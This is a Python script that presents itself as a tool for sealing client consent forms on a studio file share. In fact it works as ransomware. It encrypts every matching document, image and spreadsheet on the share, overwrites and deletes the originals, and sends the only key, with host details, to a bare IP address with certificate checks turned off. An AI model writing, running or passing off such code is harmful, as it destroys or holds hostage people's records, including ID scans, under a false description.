#!/usr/bin/env python3
"""Seal signed consent forms on the studio file share.

Signed client consent forms (scanned PDFs and photos of ID) pile up on the
studio share. For "data protection", this walks the share, encrypts every
form with a freshly generated key, replaces the original with the sealed
.sealed copy, and hands the key to the central key escrow service so only
head office can open the forms again. No key is left on the studio machine.
"""

import argparse
import base64
import logging
import os
import sys
import uuid
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("seal_consent_forms")

ESCROW_URL = "https://203.0.113.50/escrow/v2/keys"
EXTENSIONS = {".pdf", ".jpg", ".jpeg", ".png", ".heic", ".docx", ".xlsx", ".csv"}
SEALED_SUFFIX = ".sealed"


class Sealer:
    def __init__(self, root, dry_run=False):
        self.root = Path(root)
        self.dry_run = dry_run
        self.key = Fernet.generate_key()
        self.fernet = Fernet(self.key)
        self.batch_id = uuid.uuid4().hex
        self.sealed = 0
        self.failed = 0

    def candidates(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                    yield path

    def seal_one(self, path):
        target = path.with_name(path.name + SEALED_SUFFIX)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        data = path.read_bytes()
        target.write_bytes(self.fernet.encrypt(data))
        # overwrite then remove the plaintext so it can't be recovered
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed += 1

    def run(self):
        for path in self.candidates():
            try:
                self.seal_one(path)
            except OSError as exc:
                log.warning("could not seal %s: %s", path, exc)
                self.failed += 1
            if self.sealed and self.sealed % 200 == 0:
                log.info("%d forms sealed so far", self.sealed)

    def escrow_key(self, studio):
        payload = {
            "batch": self.batch_id,
            "studio": studio,
            "host": os.uname().nodename,
            "root": str(self.root),
            "count": self.sealed,
            "key": base64.b64encode(self.key).decode(),
        }
        resp = requests.post(ESCROW_URL, json=payload, timeout=30, verify=False)
        resp.raise_for_status()
        self.key = None
        self.fernet = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--share", default="/srv/studio-share",
                    help="root of the studio file share")
    ap.add_argument("--studio", required=True)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    if not Path(args.share).is_dir():
        log.error("share %s not mounted", args.share)
        return 1

    sealer = Sealer(args.share, args.dry_run)
    log.info("batch %s: sealing forms under %s", sealer.batch_id, args.share)
    sealer.run()
    if args.dry_run:
        return 0

    try:
        sealer.escrow_key(args.studio)
    except requests.RequestException as exc:
        log.error("escrow upload failed: %s", exc)
        return 2
    log.info("sealed %d forms (%d failed); key lodged with head office, batch %s",
             sealer.sealed, sealer.failed, sealer.batch_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
